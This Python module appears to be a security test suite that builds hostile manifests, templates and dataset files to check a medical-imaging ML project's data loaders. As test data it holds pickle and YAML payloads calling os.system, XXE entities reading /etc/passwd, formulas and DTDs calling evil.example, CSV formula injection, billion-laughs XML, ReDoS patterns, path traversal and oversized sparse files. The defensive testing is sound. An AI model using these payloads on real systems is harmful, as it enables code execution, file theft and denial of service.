"""Hostile tables, corpora, templates and roots of data sets, given to the commands that read them.

* `items`: manifests under `check`, roots of data sets under `prepare`, templates as `read_manifest` takes them.
"""

import gzip
import io
import json
import os
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

from hostile.archives import raw_zip, zeros
from hostile.audit import Action
from hostile.folders import DEEP, HUGE, LAUGHS, _harm

Make = Callable[[Path], object]
HEAD = "path,modality,label,patient\n"
ROW = "a.png,xray,normal,1\n"
SECRET = "/etc/passwd"


# --- in the child -----------------------------------------------------------------------------------------------------


def manifest(path: str, templates: str | None = None) -> None:
    """A manifest, read as training does."""
    from m3bind.data.manifest import read_manifest

    read_manifest(path, templates=templates)


def corpus(path: str) -> None:
    """Texts without images."""
    from m3bind.data.texts import load_extra_texts

    load_extra_texts(path)


# --- manifests --------------------------------------------------------------------------------------------------------


def text(content: str | bytes) -> Make:
    return lambda path: path.write_bytes(content if isinstance(content, bytes) else content.encode())


def sparse(start: str, size: int) -> Make:
    """A text, and zeros that take no disk."""

    def make(path: Path) -> None:
        with open(path, "wb") as file:
            file.write(start.encode())
            file.truncate(size)

    return make


def caption(words: str) -> Make:
    return text("path,modality,caption\n" + f'a.png,xray,"{words}"\n' * 3)


def link(to: str) -> Make:
    return lambda path: path.symlink_to(to)


def parquet(change: Callable[[Any], Any] = lambda table: table, **options: Any) -> Make:
    """The sound table as Parquet, changed."""

    def make(path: Path) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq

        sound = {"path": ["a.png"], "modality": ["xray"], "label": ["normal"], "patient": ["1"]}
        pq.write_table(change(pa.table(sound)), path, **options)

    return make


def _pandas(table: Any) -> Any:
    """What pandas would make a type of: names of modules, and bytes of a pickle."""
    import pickle

    column = {
        "name": "label",
        "field_name": "label",
        "pandas_type": "evil.Evil",
        "numpy_type": "os.system",
        "metadata": 5,
    }
    about = {"index_columns": ["label"], "column_indexes": [column], "columns": [column], "pandas_version": "1"}
    harm = pickle.dumps(_harm())
    return table.replace_schema_metadata({"pandas": json.dumps(about), "ARROW:extension:name": harm, "evil": harm})


def _extension(table: Any) -> Any:
    import pyarrow as pa

    harm = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": "cos\nsystem\n(S'touch harmed'\ntR.",
    }
    return table.cast(pa.schema([field.with_metadata(harm) for field in table.schema]))


def _endless(table: Any) -> Any:
    """One text of a megabyte, standing in every one of a hundred thousand rows."""
    import pyarrow as pa

    long = pa.array(["x" * 1_000_000] * 4).dictionary_encode().dictionary
    columns = {name: pa.DictionaryArray.from_arrays(np.zeros(100_000, np.int32), long) for name in table.column_names}
    return pa.table(columns)


def _columns(table: Any) -> Any:
    import pyarrow as pa

    return pa.table({**{name: table[name] for name in table.column_names}, **{f"c{n}": ["x"] for n in range(20_000)}})


def _patched(make: Make, at: int, value: bytes) -> Make:
    """Bytes replaced; `at` may count from the end."""

    def change(path: Path) -> None:
        make(path)
        data = bytearray(path.read_bytes())
        start = at % len(data)
        data[start : start + len(value)] = value
        path.write_bytes(bytes(data))

    return change


MANIFESTS: dict[str, Make] = {
    "m.csv of a million columns": text(
        "path,modality,label," + ",".join(f"c{n}" for n in range(1_000_000)) + "\n" + ROW
    ),
    "m.csv with a cell of a gigabyte": sparse(HEAD + 'a.png,xray,"', 1 << 30),
    "m.csv of a terabyte of zeros": sparse("", 1 << 40),
    "m.csv with a terabyte behind": sparse(HEAD + ROW, 1 << 40),
    "m.tsv of a terabyte": sparse("path\tmodality\tlabel\n", 1 << 40),
    "m.jsonl of a terabyte": sparse('{"path": "', 1 << 40),
    "m.csv with NUL": text(HEAD + "a\0.png,xray,nor\0mal,1\n\0\0\0\n"),
    "m.csv with quotes that never close": text(HEAD + ('"' + "x" * 20_000 + "\n") * 300),
    "m.csv of quotes": text(HEAD + '"' * 3_000_001),
    "m.csv with formulas": text(HEAD + "=cmd|' /C calc'!A0,xray,=HYPERLINK(\"http://evil\"),@SUM(1)\n" + ROW),
    "m.csv with paths elsewhere": text(HEAD + f"../../../..{SECRET},xray,a,1\n{SECRET},xray,a,1\nC:\\a.png,xray,a,1\n"),
    "m.csv with a path to a pipe": text(HEAD + "pipe.png,xray,a,1\nzero.png,xray,a,1\nloop.png,xray,a,1\n" + ROW),
    "m.csv with a path of a terabyte": text(HEAD + "sparse.png,xray,a,1\n"),
    "m.csv with paths of a megabyte": text(HEAD + "a" * (1 << 20) + ".png,xray,a,1\n" + "/" * 9000 + ",xray,a,2\n"),
    "m.csv with words of a megabyte": caption("a" * (1 << 20)),
    "m.csv with placeholders without end": caption("[** " * 200_000),
    "m.csv with letters X": caption("X" * 500_000 + "a" * 400_000),
    "m.csv with commas": caption(",;:" * 250_000 + "x"),
    "m.csv with commas and blanks": caption(", ; : " * 100_000 + "x"),
    "m.csv with brackets": caption("( [ " * 200_000),
    "m.csv with digits": caption("1" * 500_000 + "," + "1" * 400_000),
    "m.csv with words again and again": caption("word " * 180_000),
    "m.csv with entities": caption("&amp;" * 190_000),
    "m.csv with a text without end": caption("normal " * 1_000_000),
    "m.csv with a rescale of letters": text("path,modality,label,rescale\na.png,ct,a,1e999;nan\na.png,ct,a,{0};{1}\n"),
    "m.csv of UTF-16 that is cut": text((HEAD + ROW).encode("utf-16")[:-1]),
    "m.csv of UTF-32 noise": text(b"\xff\xfe\0\0" + bytes(range(256)) * 40),
    "m.csv with sep of a quote": text('sep="\n' + HEAD + ROW),
    "m.csv with columns twice": text("path,path,modality,label\na,a,xray,b\n"),
    "m.csv is a pipe": os.mkfifo,
    "m.csv is a device": link("/dev/zero"),
    "m.csv is a secret": link(SECRET),
    "m.csv.gz of zeros": lambda path: path.write_bytes(gzip.compress(bytes(16 << 20)) * 70),
    "m.csv.gz of lines": lambda path: path.write_bytes(
        gzip.compress(b"path,modality,label\n") + gzip.compress(b"\n" * (16 << 20)) * 60
    ),
    "m.csv.gz is cut": lambda path: path.write_bytes(gzip.compress((HEAD + ROW).encode())[:-9]),
    "m.jsonl nested": text('{"path": ' + DEEP + "}\n" + '{"path": "a.png", "modality": "xray", "label": "a"}\n'),
    "m.jsonl of numbers": text('{"path": ' + "9" * 10_000 + ', "modality": "xray", "label": "a"}\n[1]\nnull\n"a"\n'),
    "m.jsonl of keys": text(
        "{" + ",".join(f'"k{n}": 1' for n in range(300_000)) + ', "path": "a.png", "modality": "xray"}\n'
    ),
    "m.jsonl of values": text('{"path": ["a", ["b"]], "modality": {"x": 1}, "label": true, "labels": [null]}\n'),
    "m.parquet with notes of pandas": parquet(_pandas),
    "m.parquet with types of its own": parquet(_extension),
    "m.parquet of one text": parquet(_endless),
    "m.parquet of many columns": parquet(_columns),
    "m.parquet of noise": text(b"PAR1" + os.urandom(5000) + struct.pack("<I", 4000) + b"PAR1"),
    "m.parquet with a footer beyond": _patched(parquet(), -8, struct.pack("<I", 0x7FFFFFFF)),
    "m.parquet with sizes that lie": _patched(parquet(compression="snappy"), 20, b"\xff\xff\xff\xff\x7f"),
    "m.parquet is a pipe": os.mkfifo,
    "m.parquet of a terabyte": sparse("PAR1", 1 << 40),
}
TEMPLATES = {
    "an expression that tries without end": 'caption_pattern: "(a+)+$"\ncaption_sentences: ["{caption}"]\n',
    "one of alternatives": 'caption_pattern: "(?:a|a)*b"\ncaption_sentences: ["{caption}"]\n',
    "one of optional letters": f'caption_pattern: "{"a?" * 40}{"a" * 40}"\ncaption_sentences: ["x"]\n',
    "one that refers back": 'caption_pattern: "(?P<x>.*)\\\\1.*"\ncaption_sentences: ["x"]\n',
    "one that looks ahead": 'caption_pattern: "(?=.*x).*.*"\ncaption_sentences: ["x"]\n',
    "one of stars": 'caption_pattern: ".*.*.*.*.*.*.*x"\ncaption_sentences: ["x"]\n',
    "one that is none": 'caption_pattern: "(("\n',
    "one of four billion letters": 'caption_pattern: "a{4000000000}"\n',
    "one of groups by the thousand": f'caption_pattern: "{"(" * 5000}a{")" * 5000}"\n',
    "a sentence of a billion blanks": 'sentences: ["{findings:>1500000000}"]\n',
    "a sentence that asks for attributes": 'sentences: ["{title.__class__.__mro__}"]\n',
    "a sentence of other fields": 'sentences: ["{0} {password}"]\n',
    "a sentence with a brace": 'label_sentence: "{"\n',
    "a sentence alone that asks": 'labels: {normal: {alone: ["{title[0]!r:>99999999}"]}}\n',
    "a caption sentence that asks": 'caption_sentences: ["{caption.__init__.__globals__}"]\n',
    "aliases of aliases": LAUGHS,
    "a tag of Python": "labels: !!python/object/apply:os.system ['echo x']\n",
    "labels of numbers": "labels: {1: {2: 3}}\n",
    "the same as itself": "same_as: xray\n",
    "the same as a secret": "same_as: ../../../../etc/passwd\n",
    "ignores without end": f"ignore: {json.dumps(['*a' * 5000])}\n",
}


# --- roots of data sets -----------------------------------------------------------------------------------------------


def npz(path: Path, **arrays: Any) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in arrays.items():
            if isinstance(value, bytes):
                archive.writestr(f"{name}.npy", value)
            else:
                with archive.open(f"{name}.npy", "w") as out:
                    np.lib.format.write_array(out, value, allow_pickle=True)


def claims(shape: tuple[int, ...], descr: str = "|u1") -> bytes:
    """An array that says a shape."""
    out = io.BytesIO()
    np.lib.format.write_array_header_1_0(out, {"descr": descr, "fortran_order": False, "shape": shape})
    return out.getvalue() + bytes(4096)


def _npz(images: Any, labels: Any) -> Make:
    def make(root: Path) -> None:
        arrays = {f"{part}_images": images for part in ("train", "val", "test")}
        npz(root / "pneumoniamnist.npz", **arrays, **{f"{part}_labels": labels for part in ("train", "val", "test")})

    return make


LABELS = np.zeros((2, 1), np.uint8)
PICTURES = np.zeros((2, 28, 28), np.uint8)
MEDMNIST: dict[str, Make] = {
    "objects": _npz(np.array([_harm(), 1], dtype=object), LABELS),
    "labels of objects": _npz(PICTURES, np.array([_harm(), 1], dtype=object)),
    "a huge shape": _npz(claims((HUGE, 28, 28)), LABELS),
    "a huge picture": _npz(claims((2, 10**6, 10**6)), LABELS),
    "rows of nothing": _npz(claims((HUGE, 0)), claims((HUGE, 0))),
    "many axes": _npz(claims((2,) * 60), LABELS),
    "texts": _npz(np.array(["x" * 784] * 2), np.array([["a"], ["b"]])),
    "structures": _npz(claims((2, 2), "|V8"), LABELS),
    "a header of code": _npz(
        b"\x93NUMPY\1\0\x40\0" + b"{'descr': __import__('os').system('x')}".ljust(63) + b"\n", LABELS
    ),
    "a header nested": _npz(b"\x93NUMPY\1\0\xf0\xff" + b"(" * 0xFFEF + b"\n", LABELS),
    "classes below zero": _npz(PICTURES, np.full((2, 1), -3)),
    "pictures of floats": _npz(np.zeros((2, 28, 28)), LABELS),
    "pictures of four axes": _npz(np.zeros((2, 3, 3, 3, 3), np.uint8), LABELS),
    "no archive": lambda root: (root / "pneumoniamnist.npz").write_bytes(b"PK\3\4" + bytes(400)),
    "a pipe": lambda root: os.mkfifo(root / "pneumoniamnist.npz"),
    "a link to a device": lambda root: (root / "pneumoniamnist.npz").symlink_to("/dev/zero"),
}


def _h5(change: Callable[[Any, Path], object]) -> Make:
    """Files of PatchCamelyon of which the test part is changed."""

    def make(root: Path) -> None:
        import h5py

        for split in ("train", "valid", "test"):
            for part, shape in (("x", (2, 96, 96, 3)), ("y", (2, 1, 1, 1))):
                with h5py.File(root / f"camelyonpatch_level_2_split_{split}_{part}.h5", "w") as book:
                    if split == "train" and part == "x":
                        change(book, root)
                    else:
                        book.create_dataset(part, data=np.zeros(shape, np.uint8))

    return make


def _virtual(book: Any, root: Path) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape=(2, 96, 96, 3), dtype="u1")
    layout[:] = h5py.VirtualSource(str(root.parent / "private.h5"), "x", shape=(2, 96, 96, 3))
    book.create_virtual_dataset("x", layout)


def _linked(kind: str) -> Callable[[Any, Path], object]:
    def change(book: Any, root: Path) -> None:
        import h5py

        book["x"] = h5py.ExternalLink(str(root.parent / "private.h5"), "x") if kind == "out" else h5py.SoftLink("/x")

    return change


H5: dict[str, Make] = {
    "bytes of a secret": _h5(
        lambda book, root: book.create_dataset("x", (2, 96, 96, 3), "u1", external=[(SECRET, 0, 2 * 96 * 96 * 3)])
    ),
    "an array in another file": _h5(_virtual),
    "a link to another file": _h5(_linked("out")),
    "a link to itself": _h5(_linked("itself")),
    "a huge array": _h5(lambda book, root: book.create_dataset("x", (10**9, 96, 96, 3), "u1", chunks=(1, 96, 96, 3))),
    "a group": _h5(lambda book, root: book.create_group("x")),
    "texts": _h5(lambda book, root: book.create_dataset("x", data=[b"a", b"b"])),
    "nothing": _h5(lambda book, root: None),
}


def _excel(parts: dict[str, bytes]) -> Make:
    """An Excel file of SICAPv2 made of these parts beside what every one has."""

    def make(root: Path) -> None:
        folder = root / "partition" / "Test"
        folder.mkdir(parents=True)
        (root / "images").mkdir()
        for name in ("Train.xlsx", "Test.xlsx"):
            with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as book:
                for part, data in (EXCEL | parts).items():
                    book.writestr(part, data)

    return make


_XML = b'<?xml version="1.0"?>'
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml."
_NAMES = b"".join(b'<c r="%s1" t="inlineStr"><is><t>%s</t></is></c>' % pair for pair in
                  zip(b"A B C D E".split(), b"image_name NC G3 G4 G5".split()))  # fmt: skip
EXCEL = {
    "[Content_Types].xml": _XML + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="' + _TYPE + b'sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="' + _TYPE + b'worksheet+xml"/></Types>',
    "_rels/.rels": _XML
    + _RELS
    + b'<Relationship Id="r1" Type="'
    + _OFFICE
    + b'/officeDocument" Target="xl/workbook.xml"/>'
    b"</Relationships>",
    "xl/workbook.xml": _XML + b"<workbook " + _MAIN + b' xmlns:r="' + _OFFICE + b'"><sheets>'
    b'<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": _XML + _RELS + b'<Relationship Id="r1" Type="' + _OFFICE + b'/worksheet" '
    b'Target="worksheets/sheet1.xml"/></Relationships>',
    "xl/worksheets/sheet1.xml": _XML
    + b"<worksheet "
    + _MAIN
    + b'><sheetData><row r="1">'
    + _NAMES
    + b"</row></sheetData></worksheet>",
}


def _sheet(rows: bytes, before: bytes = b"") -> dict[str, bytes]:
    sheet = _XML + before + b"<worksheet " + _MAIN + b"><sheetData>" + rows + b"</sheetData></worksheet>"
    return {"xl/worksheets/sheet1.xml": sheet}


_LOL = b"<!DOCTYPE l [<!ENTITY a0 'lollollollol'>" + b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
)
XLSX: dict[str, Make] = {
    "entities": _excel(_sheet(b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row>', _LOL + b"]>")),
    "a secret as an entity": _excel(
        _sheet(
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>&s;</t></is></c></row>',
            b'<!DOCTYPE l [<!ENTITY s SYSTEM "file:///etc/passwd">]>',
        )
    ),
    "a definition elsewhere": _excel(_sheet(b"", b'<!DOCTYPE l SYSTEM "http://evil.example/x.dtd">')),
    "a cell at the end": _excel(
        _sheet(b'<row r="1">' + _NAMES + b'</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "a row of a billion": _excel(
        _sheet(b'<row r="1">' + _NAMES + b'</row><row r="999999999"><c r="A1"><v>1</v></c></row>')
    ),
    "zeros": lambda root: (
        _excel({})(root),
        raw_zip(root / "partition/Test/Test.xlsx", [("xl/workbook.xml", zeros(256), 4 << 30, 0)]),
    ),
    "nested": _excel(_sheet(b"<a>" * 200_000)),
    "a formula": _excel(_sheet(b'<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f></c></row>')),
    "no sheets": _excel({"xl/workbook.xml": _XML + b"<workbook " + _MAIN + b"><sheets/></workbook>"}),
    "a part elsewhere": _excel(
        {
            "xl/_rels/workbook.xml.rels": _XML
            + _RELS
            + b'<Relationship Id="r1" Type="'
            + _OFFICE
            + b'/worksheet" TargetMode="External" Target="http://evil.example/x"/></Relationships>'
        }
    ),
    "a style of a billion": _excel(
        {"xl/styles.xml": _XML + b"<styleSheet " + _MAIN + b'><numFmts count="9999999999"/></styleSheet>'}
    ),
    "a macro": _excel({"xl/vbaProject.bin": b"Sub Auto_Open()"}),
    "no archive": lambda root: (
        _excel({})(root),
        (root / "partition/Test/Test.xlsx").write_bytes(b"\xd0\xcf\x11\xe0" * 99),
    ),
    "a pipe": lambda root: (
        _excel({})(root),
        (root / "partition/Test/Test.xlsx").unlink(),
        os.mkfifo(root / "partition/Test/Test.xlsx"),
    ),
}


def _messidor(table: bytes, extra: Callable[[Path], object] = lambda root: None) -> Make:
    def make(root: Path) -> None:
        (root / "IMAGES").mkdir()
        Image.new("RGB", (32, 32)).save(root / "IMAGES" / "a.png")
        head = b"image_id,adjudicated_dr_grade,adjudicated_dme,adjudicated_gradable\na.png,1,0,1\n"
        (root / "messidor_data.csv").write_bytes(head + table)
        extra(root)

    return make


def _cycle(root: Path) -> None:
    for name in ("IMAGES/loop", "IMAGES/b"):
        (root / name).symlink_to(root)


ROOTS: dict[str, tuple[str, Make]] = {
    **{f"an npz of {name}": ("medmnist_pneumoniamnist", make) for name, make in MEDMNIST.items()},
    **{f"an HDF5 of {name}": ("pcam", make) for name, make in H5.items()},
    **{f"an Excel sheet of {name}": ("sicapv2", make) for name, make in XLSX.items()},
    "links in a circle": ("messidor2", _messidor(b"", _cycle)),
    "links in a circle below many": ("skin", lambda root: _cycle((root / "IMAGES").mkdir() or root)),
    "links in a circle of tables": ("icbeb", lambda root: _cycle((root / "IMAGES").mkdir() or root)),
    "names of files outside": (
        "messidor2",
        _messidor(f"../../../..{SECRET},1,0,1\n{SECRET},1,0,1\n\xff.png,1,0,1\n".encode()),
    ),
    "grades of anything": (
        "messidor2",
        _messidor(b"a.png,9999999999999999999999,x,{}\na.png,-1,0,1\na.png,\xc2\xb2,0,1\n"),
    ),
    "a table without end": (
        "messidor2",
        _messidor(b"x" * 1000, lambda root: os.truncate(root / "messidor_data.csv", 1 << 40)),
    ),
    "a table that is a device": (
        "messidor2",
        _messidor(
            b"",
            lambda root: ((root / "messidor_data.csv").unlink(), (root / "messidor_data.csv").symlink_to("/dev/zero")),
        ),
    ),
    "pairs without end": ("messidor2", _messidor(b"", lambda root: os.mkfifo(root / "messidor-2.csv"))),
    "lists of Python": ("flair_assembly", lambda root: _flair(root)),
    "codes of Python": ("ptbxl", lambda root: _ptbxl(root)),
}


def _flair(root: Path) -> None:
    (root / "01_EYEPACS").mkdir()
    cells = ["__import__('os').system('x')", "[" * 50_000, "['a'] * 10**10", "[1e999, None]", "{'a': 9**9**9}"]
    rows = "".join(f'01_EYEPACS/a.png,"{cell}","{cell}"\n' for cell in cells)
    (root / "01_EYEPACS.csv").write_text("image,atributes,categories\n" + rows)


def _ptbxl(root: Path) -> None:
    head = "ecg_id,patient_id,age,sex,report,scp_codes,strat_fold,filename_lr,filename_hr\n"
    cells = ["__import__('os').system('x')", "{" * 50_000, "{'NORM': 1e999}", "{'NORM': 9**9**9}"]
    rows = "".join(f'{n},1,50,0,x,"{cell}",10,../../../../etc/passwd,/etc/passwd\n' for n, cell in enumerate(cells))
    (root / "ptbxl_database.csv").write_text(head + rows)
    (root / "scp_statements.csv").write_text(
        ",description,diagnostic,form,rhythm,diagnostic_class,diagnostic_subclass\nNORM,x,1,,,NORM,NORM\n"
    )
    (root / "records100").mkdir()
    (root / "records500").mkdir()


# --- all --------------------------------------------------------------------------------------------------------------


def items(folder: Path) -> Iterator[Action]:
    """Everything, with what opens it."""
    secret = [Path(SECRET)]
    for number, (name, make) in enumerate(MANIFESTS.items()):
        place = folder / f"m{number}"
        place.mkdir(parents=True)
        Image.new("L", (32, 32)).save(place / "a.png")
        os.mkfifo(place / "pipe.png")
        (place / "zero.png").symlink_to("/dev/zero")
        (place / "loop.png").symlink_to(place / "loop.png")
        sparse("", 1 << 40)(place / "sparse.png")
        path = place / name.split()[0]
        make(path)
        private = [] if "secret" in name else secret
        yield Action(f"{name}: check", command=["check", str(path)], private=private)
        yield Action(f"{name}: read", call="hostile.tables:manifest", args=[str(path)], private=private)
        if number % 3 == 0:
            yield Action(f"{name}: corpus", call="hostile.tables:corpus", args=[str(path)], private=private)
    sound = folder / "sound"
    sound.mkdir()
    Image.new("L", (32, 32)).save(sound / "a.png")
    words = "a" * 30 + "!"
    (sound / "m.csv").write_text(f"path,modality,label,caption\na.png,xray,normal,{words}\n")
    for number, (name, content) in enumerate(TEMPLATES.items()):
        place = folder / f"t{number}"
        place.mkdir()
        (place / "xray.yaml").write_text(content)
        args = [str(sound / "m.csv"), str(place)]
        yield Action(f"templates: {name}", call="hostile.tables:manifest", args=args, private=secret)
    for number, (name, (of, make)) in enumerate(ROOTS.items()):
        place, out = folder / f"r{number}" / "root", folder / f"r{number}" / "out"
        place.mkdir(parents=True)
        (place.parent / "private.h5").write_bytes(b"secret")
        make(place)
        yield Action(f"root: {name}", command=["prepare", of, "--root", str(place), "--out", str(out)],
                     writes=[out], private=[*secret, place.parent / "private.h5"])  # fmt: skip
